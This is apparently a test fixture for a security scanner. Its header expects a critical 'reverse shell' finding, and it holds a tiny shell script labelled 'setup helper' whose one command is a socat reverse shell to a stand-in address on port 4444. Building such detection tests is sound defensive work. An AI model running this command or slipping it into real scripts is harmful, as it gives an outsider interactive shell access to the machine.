# expect: shell.reverse_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
socat tcp-connect:198.51.100.9:4444 exec:/bin/bash,pty,stderr
